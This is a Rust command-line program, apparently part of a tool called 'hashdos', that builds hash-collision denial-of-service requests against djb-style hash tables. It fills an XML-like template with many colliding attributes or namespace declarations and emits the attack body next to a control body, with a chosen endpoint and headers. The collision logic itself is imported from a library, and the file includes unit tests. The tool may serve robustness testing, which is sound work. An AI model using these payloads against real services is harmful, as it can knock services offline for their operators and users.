use clap::{Parser, ValueEnum};
use hashdos::{
    AttackConfig, AttackPair, DjbVariant, HashValue, MessageTemplate, OriginalRequest,
    PlacementMode, RequestSynthesizer, DEFAULT_COUNT, DEFAULT_PLACEHOLDER, MAX_COUNT,
};
use std::path::PathBuf;
use tracing::info;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Emit {
    /// Only print the summary
    Summary,
    /// Print the colliding request body
    Tampered,
    /// Print the control request body
    Untampered,
}

/// Build a hash-collision attack request and its control request
#[derive(Parser, Debug)]
#[command(name = "hashdos")]
#[command(about = "Hash collision DoS payload generator for djb-style hashes")]
struct Args {
    /// Message template containing the placeholder
    #[arg(long, env = "HASHDOS_TEMPLATE")]
    template: PathBuf,

    /// Number of colliding attributes or namespaces
    #[arg(long, default_value_t = DEFAULT_COUNT, env = "HASHDOS_COUNT")]
    count: usize,

    /// Place the keys in namespace declarations instead of attributes
    #[arg(long, env = "HASHDOS_NAMESPACES")]
    namespaces: bool,

    /// Target hash (djbx33x, djbx33a, djbx31a)
    #[arg(long, default_value = "djbx33x", env = "HASHDOS_VARIANT")]
    variant: DjbVariant,

    /// Endpoint copied into both requests
    #[arg(long, default_value = "", env = "HASHDOS_ENDPOINT")]
    endpoint: String,

    /// Header copied into both requests, as 'Name: value'
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,

    /// Placeholder token in the template
    #[arg(long, default_value = DEFAULT_PLACEHOLDER)]
    placeholder: String,

    /// Ceiling for --count
    #[arg(long, default_value_t = MAX_COUNT)]
    max_count: usize,

    #[arg(long, value_enum, default_value_t = Emit::Summary)]
    emit: Emit,
}

fn summary(config: &AttackConfig, collision_hash: Option<HashValue>, pair: &AttackPair) -> String {
    let mut lines = vec![format!(
        "Generated {} keys per request ({})",
        config.count, config.variant
    )];
    if let Some(h) = collision_hash {
        lines.push(format!("  shared hash 0x{}", hex::encode(h.to_be_bytes())));
    }
    for (label, request) in [("tampered", &pair.tampered), ("untampered", &pair.untampered)] {
        lines.push(format!(
            "  {label:<10} {} bytes  md5 {}",
            request.body().len(),
            request.fingerprint()
        ));
    }
    lines.join("\n")
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    tracing_subscriber::fmt()
        .with_writer(std::io::stderr)
        .with_env_filter(
            tracing_subscriber::EnvFilter::from_default_env()
                .add_directive("hashdos=info".parse()?),
        )
        .init();

    let args = Args::parse();

    let placement = if args.namespaces {
        PlacementMode::Namespaces
    } else {
        PlacementMode::Attributes
    };
    let config = AttackConfig::new(args.count, placement)
        .with_variant(args.variant)
        .with_max_count(args.max_count);

    let mut original = OriginalRequest::new(args.endpoint);
    for line in &args.headers {
        let (name, value) = OriginalRequest::parse_header(line)?;
        original = original.header(name, value);
    }

    info!(template = %args.template.display(), "loading template");
    let template = MessageTemplate::from_path(&args.template)?.with_placeholder(args.placeholder)?;

    let synth = RequestSynthesizer::new(config)?;
    info!(
        count = config.count,
        %placement,
        variant = %config.variant,
        "generating requests"
    );
    let pair = synth.build_pair(&template, &original)?;

    let collision_hash = synth.collision_generator().collision_hash(config.count)?;
    let report = summary(&config, collision_hash, &pair);

    // stdout carries the result: the summary, or the requested body
    match args.emit {
        Emit::Summary => println!("{report}"),
        Emit::Tampered => {
            eprintln!("{report}");
            println!("{}", pair.tampered.body());
        }
        Emit::Untampered => {
            eprintln!("{report}");
            println!("{}", pair.untampered.body());
        }
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_summary_reports_both_requests() {
        let config = AttackConfig::new(4, PlacementMode::Attributes);
        let synth = RequestSynthesizer::new(config).unwrap();
        let template = MessageTemplate::new("<e $$PAYLOADATTR$$/>");
        let pair = synth.build_pair(&template, &OriginalRequest::new("e")).unwrap();
        let hash = synth.collision_generator().collision_hash(4).unwrap();

        let report = summary(&config, hash, &pair);
        let lines: Vec<&str> = report.lines().collect();
        assert_eq!(lines.len(), 4);
        assert_eq!(lines[0], "Generated 4 keys per request (djbx33x)");
        assert!(lines[1].starts_with("  shared hash 0x"));
        assert!(lines[2].contains(&pair.tampered.fingerprint()));
        assert!(lines[3].contains(&pair.untampered.fingerprint()));
    }

    #[test]
    fn test_summary_without_keys_has_no_hash_line() {
        let config = AttackConfig::new(0, PlacementMode::Namespaces);
        let synth = RequestSynthesizer::new(config).unwrap();
        let template = MessageTemplate::new("$$PAYLOADATTR$$");
        let pair = synth.build_pair(&template, &OriginalRequest::new("e")).unwrap();
        let report = summary(&config, None, &pair);
        assert!(!report.contains("shared hash"));
        assert_eq!(report.lines().count(), 3);
    }
}
